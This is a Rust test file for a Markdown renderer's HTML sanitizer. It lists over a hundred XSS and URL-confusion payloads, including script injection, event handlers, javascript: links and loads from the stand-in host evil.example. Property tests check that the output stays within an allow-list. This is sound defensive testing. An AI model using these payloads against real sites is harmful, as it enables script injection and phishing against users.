//! Attacks on the rendered HTML.

use std::collections::BTreeSet;

use proptest::prelude::*;

use super::{excerpt, offences, render, spiky};

/// Each also inside the wrappings of [`wrapped`].
const ATTACKS: &[&str] = &[
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<script\n>alert(1)</script\n>",
    "<<script>alert(1)//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=\"javascript:alert(1)\">",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math href=\"javascript:alert(1)\">x</math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\">",
    "<object data=\"data:text/html,<script>alert(1)</script>\">",
    "<embed src=\"//evil.example/x.swf\">",
    "<base href=\"javascript:alert(1)//\">",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style>*{background:url(javascript:alert(1))}</style>",
    "<body onload=alert(1)>",
    "<div style=\"position:fixed;inset:0\" id=login class=modal>x</div>",
    "<p style=x:expression(alert(1))>x</p>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<form action=//evil.example><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<isindex action=javascript:alert(1) type=image>",
    "<textarea></textarea><script>alert(1)</script>",
    "<title><script>alert(1)</script></title>",
    "<xmp><script>alert(1)</script></xmp>",
    "<plaintext><script>alert(1)",
    "<!--><script>alert(1)</script>-->",
    "<!--<img src=\"--><img src=x onerror=alert(1)>\">",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href=\"javascript:alert(1)\"?>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=x onclick=alert(1)>x</a>",
    "<x onpointerenter=alert(1)>x</x>",
    "<p is=\"x-a\" slot=b part=c>x</p>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](<java\nscript:alert(1)>)",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](&#x6A&#x61vascript:alert(1))",
    "[x](\u{1}javascript:alert(1))",
    "[x](\u{A0}javascript:alert(1))",
    "[x](%6aavascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](blob:https://a.example/1)",
    "[x](view-source:https://a.example)",
    "[x](//evil.example)",
    "[x](/\\evil.example)",
    "[x](\\\\evil.example)",
    "[x](https:evil.example)",
    "[x](http:\\\\evil.example)",
    "[x](https://bank.example@evil.example)",
    "[x](https://bank.example%40evil.example)",
    "[x](https://bank.example\\@evil.example)",
    "[x](https://evil.example\u{202E}moc.knab)",
    "[x](https://a.example/\"onmouseover=\"alert(1))",
    "[x](https://a.example/'onmouseover='alert(1))",
    "[x](https://a.example/ \"t\" onclick=\"alert(1)\")",
    "[x](https://a.example \"\\\"><script>alert(1)</script>\")",
    "[x](<https://a.example/><script>alert(1)</script>)",
    "[x]: javascript:alert(1)\n\n[x] [x][] [x][x]",
    "<javascript:alert(1)>",
    "<https://a.example/\"onclick=alert(1)>",
    "<https://a.example/'><script>alert(1)</script>",
    "![x](javascript:alert(1))",
    "![x\" onerror=\"alert(1)](https://a.example/x.png)",
    "![x](https://a.example/x.png\"onerror=\"alert(1))",
    "![<script>alert(1)</script>](x)",
    "[![x](javascript:alert(1))](javascript:alert(2))",
    "https://a.example/\"onmouseover=\"alert(1)",
    "https://a.example/<script>alert(1)</script>",
    "http://a.example/&quot;onclick=&quot;alert(1)",
    "www.a.example/'\"><img src=x onerror=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "```x\"><script>alert(1)</script>\nx\n```",
    "```<script>\n</code></pre><script>alert(1)</script>\n```",
    "```x onload=alert(1)\nx\n```",
    "`</code><script>alert(1)</script>`",
    "    </code></pre><script>alert(1)</script>",
    "# <script>alert(1)</script>",
    "# x {#id .class onclick=alert(1)}",
    "| <script>alert(1)</script> |\n|---|\n| x |",
    "<b>*x</b>*",
    "*<b>x*</b>",
    "</p></div></blockquote><script>alert(1)</script>",
    "\u{FEFF}<script>alert(1)</script>",
    "<script\0>alert(1)</script>",
    "<\0script>alert(1)</script>",
    "<scr\0ipt>alert(1)</scr\0ipt>",
    "\u{3C}\u{200B}script>alert(1)",
    "＜script＞alert(1)＜/script＞",
    "[x](mailto:a@b.example?subject=\"><script>alert(1)</script>)",
    "[x](mailto:javascript:alert(1)@b.example)",
    "<a@b.example\"onclick=alert(1)>",
    "1234567890. x",
    "999999999) x",
];

fn wrapped(attack: &str) -> Vec<String> {
    vec![
        attack.to_owned(),
        format!("text {attack} text"),
        format!("> - {}", attack.replace('\n', "\n>   ")),
        format!("**{attack}** _{attack}_"),
        format!("[{attack}](https://a.example)"),
        format!("![{attack}](https://a.example)"),
        format!("<div>\n{attack}\n"),
        format!("a\n{attack}\n\nb"),
    ]
}

#[test]
fn no_attack_leaves_the_allow_list() {
    assert!(ATTACKS.len() >= 100);
    for attack in ATTACKS {
        for markdown in wrapped(attack) {
            let html = render(&markdown);
            assert_eq!(
                offences(&html),
                Vec::<String>::new(),
                "{markdown:?} → {html}"
            );
        }
    }
}

#[test]
fn links_of_attacks_lead_to_their_visible_hosts_only() {
    let hosts: BTreeSet<String> = ATTACKS
        .iter()
        .flat_map(|attack| wrapped(attack))
        .flat_map(|markdown| {
            let html = render(&markdown);
            let hrefs = html
                .split("href=\"")
                .skip(1)
                .map(|rest| rest.split('"').next().unwrap_or("").to_owned());
            hrefs.collect::<Vec<_>>()
        })
        .filter_map(|href| {
            url::Url::parse(&href)
                .unwrap()
                .host_str()
                .map(str::to_owned)
        })
        .collect();
    // The second is what readers see, too: the override is gone from the text.
    let expect = ["a.example", "evil.examplemoc.knab", "www.a.example"];
    assert_eq!(hosts.iter().map(String::as_str).collect::<Vec<_>>(), expect);
}

proptest! {
    #[test]
    fn whatever_is_rendered_stays_within_the_allow_list(markdown in prop_oneof![spiky(), "\\PC{0,80}", any::<String>()]) {
        let html = render(&markdown);
        prop_assert_eq!(offences(&html), Vec::<String>::new(), "{}", html);
    }

    #[test]
    fn an_excerpt_has_one_line_and_keeps_its_length(markdown in spiky(), length in 0_usize..30) {
        use unicode_segmentation::UnicodeSegmentation;
        let text = excerpt(&markdown, length);
        prop_assert!(text.graphemes(true).count() <= length && !text.contains('\n'));
    }
}
